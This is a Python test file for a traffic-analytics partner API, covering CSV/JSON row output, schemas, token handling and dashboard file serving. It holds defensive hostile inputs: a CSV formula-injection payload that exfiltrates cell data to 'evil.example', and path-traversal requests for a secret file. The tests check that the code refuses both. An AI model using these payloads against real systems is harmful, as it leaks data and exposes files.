"""The API's pieces without a broker: rows, CSV, JSON Schema, the in-memory table state, tokens,
time parsing and the dashboard's static files."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import httpx
import jsonschema
import pytest
from aiohttp import web
from click.testing import CliRunner

from privaflow.partner.api import api, make_app, parse_instant, partner_tokens
from privaflow.partner.rows import csv_text, dim_fields, json_row, row_json_schema
from privaflow.partner.store import PartnerStore
from privaflow.schemas.codec import kafka_client_config
from privaflow.schemas.site import ConfigError, parse_site_config
from privaflow.schemas.topics import PARTNER_TABLES
from tests.api.background import BackgroundServer


def _tv(site: str, ws: datetime | int, line: str = "l", direction: str = "in", cls: str = "car",
        count: int | None = 5) -> dict:
    end = ws + 60_000 if isinstance(ws, int) else ws
    return {"site_id": site, "line_id": line, "direction": direction, "class_name": cls, "window_start": ws,
            "window_end": end, "count": count, "suppressed": count is None,
            "mean_speed_kmh": 12.300000190734863, "p85_speed_kmh": None}


def test_rows_have_exactly_the_avro_fields_with_iso_times_and_short_floats() -> None:
    ws = datetime(2024, 5, 1, 8, 0, tzinfo=UTC)  # what fastavro decodes timestamp-millis into
    row = json_row("traffic_volume", _tv("s", ws))
    assert list(row) == ["site_id", "line_id", "direction", "class_name", "window_start", "window_end", "count",
                         "suppressed", "mean_speed_kmh", "p85_speed_kmh", "window_length_s"]
    assert row["window_start"] == "2024-05-01T08:00:00.000Z" and row["mean_speed_kmh"] == 12.3


def test_csv_writes_nulls_booleans_and_arrays_unambiguously() -> None:
    rows = [json_row("dwell", {"site_id": "s", "zone_id": "z", "window_start": 0, "window_end": 300_000,
                               "bin_upper_s": [5.0, float("inf")], "bin_counts": [None, 3], "suppressed": True,
                               "median_dwell_s": None})]
    lines = csv_text("dwell", rows).splitlines()
    assert lines[0] == ("site_id,zone_id,window_start,window_end,bin_upper_s,bin_counts,suppressed,median_dwell_s,"
                        "window_length_s")
    assert lines[1] == 's,z,1970-01-01T00:00:00.000Z,1970-01-01T00:05:00.000Z,"[5.0,null]","[null,3]",true,,'


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(text: str) -> None:
    """Issue 12 finding 5, the last line of defence: whatever text reached a row (only closed vocabularies
    and site-config ids should), a CSV cell starting with =, +, -, @, tab or CR is never a formula."""
    row = {"site_id": text, "place_id": "door", "age_bracket": "age_20_29", "gender": "male",
           "window_start": 0, "window_end": 1, "count": 11, "suppressed": False, "window_length_s": 1}
    [header, line] = list(csv.reader(io.StringIO(csv_text("attributes", [json_row("attributes", row)]), newline="")))
    cell = line[header.index("site_id")]
    assert cell == "'" + text and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert line[header.index("count")] == "11" and line[header.index("place_id")] == "door"


def test_dims_are_the_key_fields_of_streams_partner_key() -> None:
    assert {t: dim_fields(t) for t in PARTNER_TABLES} == {
        "traffic_volume": ("line_id", "direction", "class_name"), "occupancy": ("zone_id",),
        "flow_lines": ("origin_zone_id", "destination_zone_id"), "dwell": ("zone_id",),
        "attributes": ("place_id", "age_bracket", "gender"), "congestion": ("intersection_id", "approach_id"),
        "intersection_volume": ("intersection_id", "approach_id", "flow_direction", "class_name"),
        "turning_movements": ("intersection_id", "entry_approach_id", "exit_approach_id", "class_name"),
        "vehicle_colours": ("line_id", "direction", "class_name", "colour_family"),
        "road_conditions": ("h3_cell", "heading")}


@pytest.mark.parametrize("table", list(PARTNER_TABLES))
def test_row_json_schema_is_valid_2020_12_and_accepts_a_row(table: str) -> None:
    schema = row_json_schema(table)
    jsonschema.Draft202012Validator.check_schema(schema)
    sample = {"traffic_volume": _tv("s", 0),
              "occupancy": {"site_id": "s", "zone_id": "z", "window_start": 0, "window_end": 1, "mean_present": 1.5,
                            "max_present": 2, "p95_present": 2.0, "capacity_ratio": None,
                            "crowding_level": "FULL", "samples": 3, "suppressed": False},
              "flow_lines": {"site_id": "s", "origin_zone_id": "a", "destination_zone_id": "b", "window_start": 0,
                             "window_end": 1, "count": None, "suppressed": True, "median_travel_s": None},
              "dwell": {"site_id": "s", "zone_id": "z", "window_start": 0, "window_end": 1,
                        "bin_upper_s": [5.0, float("inf")], "bin_counts": [1, None], "suppressed": True,
                        "median_dwell_s": 2.5},
              "attributes": {"site_id": "s", "place_id": "p", "age_bracket": "age_20_29", "gender": "male",
                             "window_start": 0, "window_end": 1, "count": 7, "suppressed": False},
              "congestion": {"site_id": "s", "intersection_id": "x", "approach_id": "n", "window_start": 0,
                             "window_end": 1, "count": 6, "suppressed": False, "mean_present": 1.5, "max_present": 4,
                             "mean_speed_kmh": 12.0, "density_veh_per_km_lane": 25.0, "mean_delay_s": 14.0,
                             "queue_length_m": 28.0, "mean_queue_length_m": 7.5, "level_of_service": "B",
                             "samples": 600},
              "intersection_volume": {"site_id": "s", "intersection_id": "x", "approach_id": "n",
                                      "flow_direction": "entering", "class_name": "car", "window_start": 0,
                                      "window_end": 1, "count": None, "suppressed": True, "mean_speed_kmh": None,
                                      "p85_speed_kmh": None},
              "turning_movements": {"site_id": "s", "intersection_id": "x", "entry_approach_id": "n",
                                    "exit_approach_id": "e", "class_name": "bus", "window_start": 0, "window_end": 1,
                                    "count": 5, "suppressed": False},
              "vehicle_colours": {"site_id": "s", "line_id": "l", "direction": "in", "class_name": "truck",
                                  "colour_family": "other", "window_start": 0, "window_end": 1, "count": None,
                                  "suppressed": True},
              "road_conditions": {"site_id": "s", "h3_cell": "892f5a32d97ffff", "heading": "NW", "window_start": 0,
                                  "window_end": 1, "trips": 3, "suppressed": False, "samples": 40,
                                  "median_speed_kmh": 31.0, "mean_vehicles_ahead": 1.5, "p85_vehicles_ahead": 2.0,
                                  "mean_people": 0.25, "congestion_level": "FREE",
                                  "furniture_classes": ["traffic_light"], "furniture_counts": [2]}}[table]
    row = json.loads(json.dumps(json_row(table, sample), allow_nan=False))
    jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker()).validate(row)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(schema).validate({**row, "track_id": 1})  # nothing but the fields


def test_store_keeps_the_latest_value_per_key_of_its_site_and_honours_tombstones() -> None:
    store = PartnerStore("s", bootstrap="unused:9092", registry=object(), kafka_config={})  # type: ignore[arg-type]
    store.apply("traffic_volume", "k2", _tv("s", 120_000, count=1))
    store.apply("traffic_volume", "k1", _tv("s", 0, cls="car", count=3))
    store.apply("traffic_volume", "k0", _tv("s", 0, cls="bus", count=None))
    store.apply("traffic_volume", "k1", _tv("s", 0, cls="car", count=4))  # republished window
    store.apply("traffic_volume", "kx", _tv("other-site", 0, count=50))
    assert [(r["class_name"], r["count"]) for r in store.rows("traffic_volume")] == [
        ("bus", None), ("car", 4), ("car", 1)]
    store.apply("traffic_volume", "k2", None)
    assert [r["window_start"] for r in store.rows("traffic_volume")] == [0, 0]
    assert store.rows("traffic_volume", 1, None) == [] and len(store.rows("traffic_volume", None, 1)) == 2
    assert store.status()["rows"]["traffic_volume"] == 2


def test_tokens_come_from_the_named_environment_variables_only() -> None:
    site = parse_site_config({"site_id": "s", "cameras": [{"id": "c", "source": 0}], "partners": [
        {"id": "a", "tables": ["occupancy"], "token_env": "PRIVAFLOW_TOKEN_A"},
        {"id": "b", "tables": ["dwell"], "token_env": "PRIVAFLOW_TOKEN_B"},
        {"id": "c", "tables": ["dwell"]}]})
    tokens = partner_tokens(site, {"PRIVAFLOW_TOKEN_A": "alpha-0123456789ab", "PRIVAFLOW_TOKEN_B": "  "})
    assert {t: p.id for t, p in tokens.items()} == {"alpha-0123456789ab": "a"}
    with pytest.raises(ConfigError, match="share a bearer token"):
        partner_tokens(site, {"PRIVAFLOW_TOKEN_A": "same-0123456789abc", "PRIVAFLOW_TOKEN_B": "same-0123456789abc"})


def test_instants_parse_as_iso_or_epoch_ms() -> None:
    assert parse_instant("1714550400000", "from") == 1_714_550_400_000
    assert parse_instant("2024-05-01T08:00:00Z", "from") == 1_714_550_400_000
    assert parse_instant("2024-05-01T17:00:00+09:00", "from") == 1_714_550_400_000
    assert parse_instant("2024-05-01T08:00:00", "from") == 1_714_550_400_000
    with pytest.raises(web.HTTPBadRequest):
        parse_instant("May 1st", "to")


def test_kafka_security_comes_from_the_manifests_variables() -> None:
    env = {"PRIVAFLOW_KAFKA_SECURITY_PROTOCOL": "SASL_SSL", "PRIVAFLOW_KAFKA_SASL_MECHANISM": "SCRAM-SHA-512",
           "PRIVAFLOW_KAFKA_SASL_USERNAME": "privaflow-api", "PRIVAFLOW_KAFKA_SASL_PASSWORD": "pw",
           "PRIVAFLOW_KAFKA_SSL_CAFILE": "/etc/kafka-ca/ca.crt"}
    assert kafka_client_config(env) == {"security.protocol": "SASL_SSL", "sasl.mechanism": "SCRAM-SHA-512",
                                          "sasl.username": "privaflow-api", "sasl.password": "pw",
                                          "ssl.ca.location": "/etc/kafka-ca/ca.crt"}
    assert kafka_client_config({}) == {}


class _IdleStore(PartnerStore):
    """A store that never connects: for the routes that do not need data."""

    def start(self) -> None:
        self._ready.set()

    def stop(self, timeout: float = 10.0) -> None:
        pass


def _app(tmp_path, dashboard: bool = True) -> web.Application:
    site = parse_site_config({"site_id": "s", "cameras": [{"id": "c", "source": 0}]})
    d = tmp_path / "dashboard"
    if dashboard:
        (d / "vendor").mkdir(parents=True)
        (d / "index.html").write_text("<!doctype html><title>dash</title>")
        (d / "vendor" / "x.js").write_text("// js")
    (tmp_path / "secret.txt").write_text("outside")
    return make_app(site, _IdleStore("s", "unused:9092", object(), {}), tokens={},  # type: ignore[arg-type]
                    dashboard_dir=d)


def test_dashboard_is_served_and_root_redirects_to_it(tmp_path) -> None:
    with BackgroundServer(_app(tmp_path)) as s:
        root = httpx.get(s.url + "/", follow_redirects=False)
        assert root.status_code == 302 and root.headers["location"] == "/dashboard/"
        assert httpx.get(s.url + "/dashboard", follow_redirects=False).headers["location"] == "/dashboard/"
        index = httpx.get(s.url + "/dashboard/")
        assert index.status_code == 200 and "<title>dash</title>" in index.text
        assert index.headers["content-type"].startswith("text/html")
        assert httpx.get(s.url + "/dashboard/vendor/x.js").text == "// js"
        assert httpx.get(s.url + "/dashboard/../secret.txt").status_code == 404
        assert httpx.get(s.url + "/dashboard/%2e%2e/secret.txt").status_code in (403, 404)
        assert httpx.get(s.url + "/healthz").json()["status"] == "ok"


def test_a_missing_dashboard_is_a_clear_404(tmp_path) -> None:
    with BackgroundServer(_app(tmp_path, dashboard=False)) as s:
        r = httpx.get(s.url + "/dashboard/")
        assert r.status_code == 404 and "not installed" in r.json()["error"]


def test_cli_help_and_openapi_print() -> None:
    runner = CliRunner()
    out = runner.invoke(api, ["serve", "--help"])
    assert out.exit_code == 0 and "--config" in out.output and "--port" in out.output
    doc = runner.invoke(api, ["openapi"])
    assert doc.exit_code == 0 and json.loads(doc.output)["openapi"] == "3.1.0"
